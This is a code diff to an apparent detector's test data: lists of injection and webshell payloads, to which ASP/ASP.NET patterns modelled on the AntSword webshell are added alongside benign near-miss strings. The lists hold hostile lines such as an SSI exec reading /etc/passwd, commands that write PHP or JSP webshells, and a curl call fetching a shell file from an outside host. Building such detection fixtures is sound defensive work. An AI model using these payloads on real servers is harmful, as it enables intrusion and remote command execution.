@@ -254,7 +254,13 @@ CODE_PAYLOADS = {
                 "throw new Exception('id'.execute().text);", "\"touch /tmp/x\".execute()", "x.execute().text",
                 "function(vars) os.execute('curl x'); return true end", "os.system(\"id\")",
                 "var a=new org.springframework.expression.spel.standard.SpelExpressionParser();",
-                "new java.util.Scanner(x).next()", "new javax.script.ScriptEngineManager()"],
+                "new java.util.Scanner(x).next()", "new javax.script.ScriptEngineManager()",
+                # ASP / ASP.NET as AntSword sends it: eval of a request value, JScript.NET's eval(..., "unsafe"), COM
+                # objects that run commands or touch files, .NET's process and file classes
+                "eval request(\"ant\")", "Execute(Request.Form(\"x\"))",
+                "eval(System.Text.Encoding.GetEncoding(936).GetString(System.Convert.FromBase64String(x)),\"unsafe\");",
+                "Set o = CreateObject(\"WScript.Shell\")", "System.Diagnostics.Process.Start(\"cmd\")",
+                "System.IO.File.WriteAllText(p, t)"],
     "perl": ["@{[ ]}", "@@{[system whoami]}", "x @ {[ `id` ]}"],
     "ssi": ['<!--#exec cmd="/bin/cat /etc/passwd"-->', "<!--#include virtual=\"/etc/passwd\"-->",
             '<!--#echo var="DOCUMENT_ROOT"-->', '<esi:include src="http://x.example/a"/>'],
@@ -306,7 +312,9 @@ CODE_PAYLOADS = {
                  "__${T(groovy.lang.GroovyClassLoader).newInstance()}__::.x", "${T(org.x.StreamUtils).copy(a)}",
                  "<#assign proc=Runtime> ${ proc }", "{{include(\"index\")}}", "{{ template_from_string('x') }}",
                  "}}}{{async async=false}}{{groovy}}println(1){{/groovy}}{{/async}}",
-                 "{{python}}print(1){{/python}}"],
+                 "{{python}}print(1){{/python}}",
+                 # VBScript's eval of a value inside ASP's <% %> (AntSword's xxxxdog shell)
+                 "<%Function xxxx(str) eval str End Function%>", "<% Execute s %>", "<%eval request(\"ant\")%>"],
     "webshell": ["echo '<?php system($_GET[1]); ?>' > x.php", "x; echo PD9waHA= | base64 -d > shell.php",
                  "curl http://10.0.0.9/s.txt -o /var/www/html/s.php", "printf '<%=x%>' > /srv/a.jsp"],
 }
@@ -348,6 +356,8 @@ CODE_NEAR_MISSES = [
     "see #parameters. Then", "#session (2)", "I'd say '+{x}+'", "\\u0027hello\\u0027", "a '+' b {1+1}",
     "T(org) = 5", "<#assign x=RuntimeName>", "{{ include }}", "{{ script }}", "{{groovy}} is a macro",
     "{{ python_version }}{{/python}}",
+    "eval the request (see below)", "an unsafe eval(x, 'safe')", "CreateObject(\"Excel.Application\")",
+    "System.IO is a namespace", "the System.Diagnostics docs", "<%= evaluation %>", "execute the request",
 ]
 
 
